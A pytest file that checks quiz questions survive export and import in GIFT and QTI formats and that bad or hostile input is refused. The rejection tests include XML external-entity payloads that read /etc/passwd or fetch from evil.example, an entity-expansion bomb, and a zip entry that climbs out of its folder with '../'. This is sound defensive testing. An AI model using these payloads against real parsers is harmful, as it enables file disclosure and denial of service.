"""Minutes of the bank: questions go out in two forms and come back as they were; what is hostile is refused."""

from __future__ import annotations

import tomllib
import zipfile
from io import BytesIO
from pathlib import Path

import pytest
from click.testing import CliRunner

from app.cli import main
from curriculum.bank import as_toml, entry_of
from curriculum.gift import as_gift, read_gift
from curriculum.problems import PackRefused
from curriculum.qti import as_qti, read_qti
from curriculum.teaching.loader import load_module, modules
from tests.curriculum.module import write_module

ITEM = '<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" title="t">{}</assessmentItem>'
CHOICE = (
    "<responseDeclaration><correctResponse><value>A</value></correctResponse></responseDeclaration><itemBody>"
    '<choiceInteraction maxChoices="1"><prompt>Which?</prompt><simpleChoice identifier="A">this</simpleChoice>'
    '<simpleChoice identifier="B">that</simpleChoice></choiceInteraction></itemBody>'
)


def said(entry):
    return {key: value for key, value in entry.items() if value}


def refusal(read, content) -> str:
    with pytest.raises(PackRefused) as refused:
        read(content)
    return str(refused.value)


@pytest.mark.parametrize("slug", modules())
def test_every_question_of_the_course_comes_back_as_it_was(slug: str) -> None:
    """Given the questions of each module, when they go out and come in, in either form, then nothing has changed."""
    entries = [entry_of(question) for question in load_module(slug).questions]

    assert list(map(said, read_gift(as_gift(entries)))) == list(map(said, entries))
    assert list(map(said, read_qti(as_qti(entries)))) == list(map(said, entries))


def test_what_is_printed_is_a_questions_toml_again(tmp_path: Path) -> None:
    """Given a module, when its questions are exported and imported, then the module with them is the same."""
    root = write_module(tmp_path)
    before = [entry_of(question) for question in load_module(root).questions]
    for form in ("gift", "qti"):
        out = tmp_path / form
        run = CliRunner().invoke
        assert run(main, ["questions", "export", str(root), "--format", form, "-o", str(out)]).exit_code == 0
        printed = run(main, ["questions", "import", str(out), "--format", form])
        assert printed.exit_code == 0
        (root / "questions.toml").write_text(printed.stdout, "utf-8")
        assert [entry_of(question) for question in load_module(root).questions] == before


def test_questions_from_elsewhere_say_what_is_still_to_be_written() -> None:
    """Given the usual kinds of GIFT from another system, then each is read, and what a module wants is named."""
    text = """$CATEGORY: law

// somebody's note
::Charter:: Who may act? {
=The Council#Article 24
~The Secretariat
}

Two are right {~%50%one ~%50%two ~%-100%three}

States may not use force.{TRUE#right}

Match.{=a -> 1 =b -> 2}

Write {}
"""
    entries = read_gift(text)
    assert [(each["id"], each["kind"]) for each in entries] == [
        ("charter", "single"), ("question-2", "multiple"), ("question-3", "single"), ("question-4", "match"),
        ("question-5", "draft"),
    ]  # fmt: skip
    assert [option["right"] for option in entries[1]["options"]] == [True, True, False]
    assert "# still to be written: objective, lesson" in as_toml(entries)
    assert len(tomllib.loads(as_toml(entries))["questions"]) == 5


def test_signs_of_the_form_are_only_signs() -> None:
    """Given words with braces, tildes, hashes, quotation marks and arrows, then they come back as words."""
    words = 'a {b} ~ c = d # e : f "g" -> h'
    entry = {"id": "q", "kind": "single", "prompt": words, "why": words}
    entry["options"] = [{"text": words, "right": True, "why": words}, {"text": "<b>&", "right": False, "why": ""}]

    assert said(read_gift(as_gift([entry]))[0]) == entry
    assert read_qti(as_qti([entry]))[0]["options"] == entry["options"]
    assert tomllib.loads(as_toml([entry]))["questions"][0]["prompt"] == words


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ("How many? {#42}", "a number as an answer"),
        ("Who? {=Grotius}", "a word to be typed"),
        ("Who? {nobody}", "begins with = or ~"),
        ("A description only", "stand between { and }"),
        ("", "no question in it"),
        ("x" * 300_000, "longer than 256 KiB"),
    ],
)
def test_what_has_no_place_in_a_module_is_refused(text: str, why: str) -> None:
    assert why in refusal(read_gift, text)


@pytest.mark.parametrize(
    ("xml", "why"),
    [
        ('<!DOCTYPE a [<!ENTITY b "' + "x" * 99 + '"><!ENTITY c "&b;&b;">]>' + ITEM.format("&c;"), "document type"),
        ('<!DOCTYPE a SYSTEM "file:///etc/passwd">' + ITEM.format(CHOICE), "document type"),
        ('<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/"> %p;]>' + ITEM.format(CHOICE), "document type"),
        (ITEM.format("&undeclared;"), "not XML"),
        (ITEM.format("<p>" * 60 + "</p>" * 60), "nested more than"),
        ("<html/>", "no assessmentItem"),
        (ITEM.format(""), "not nothing"),
        (ITEM.format(CHOICE.replace("<value>A</value>", "")), "which choice is right"),
        (ITEM.format(CHOICE.replace("choiceInteraction", "uploadInteraction")), "not uploadInteraction"),
        (ITEM.format("x" * 300_000), "larger than 256 KiB"),
    ],
)
def test_hostile_or_foreign_xml_is_refused(xml: str, why: str) -> None:
    """Given entities that grow or fetch, depth, size, or another kind of item, then the reason is said."""
    assert why in refusal(read_qti, xml.encode())
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("items/a.xml", xml)
    assert why in refusal(read_qti, made.getvalue())


def test_a_package_is_opened_as_carefully_as_a_module() -> None:
    made = BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../a.xml", ITEM.format(CHOICE))
    assert "leads out of the pack" in refusal(read_qti, made.getvalue())
    assert read_qti(ITEM.format(CHOICE).encode())[0]["options"][0] == {"text": "this", "right": True, "why": ""}
